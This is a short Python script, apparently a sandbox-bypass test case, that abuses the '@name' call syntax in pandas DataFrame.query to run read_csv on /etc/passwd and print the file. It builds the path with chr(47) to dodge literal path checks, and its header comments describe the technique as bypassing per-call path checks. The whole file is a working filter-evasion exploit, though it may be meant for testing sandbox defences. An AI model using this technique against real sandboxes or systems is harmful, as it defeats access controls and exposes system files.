# source: pandas 1.5.3 pandas/core/computation/expr.py BaseExprVisitor.visit_Call + scope.py Scope (frame globals) ; _replace_locals
# family: DataFrame.query "@name" call: (@f)(args) calls any function the script imported, bypassing per-call path checks
# goal: read /etc/passwd via pandas.read_csv with a run-time path, called inside query()
import pandas as pd
import numpy as np
from pandas import read_csv
df = pd.DataFrame({"a": [1, 2, 3]})
p = chr(47) + "etc" + chr(47) + "passwd"


def show(x):
    print(x.to_string())
    return 0


print(df.query("a > (@show)((@read_csv)(@p))"))
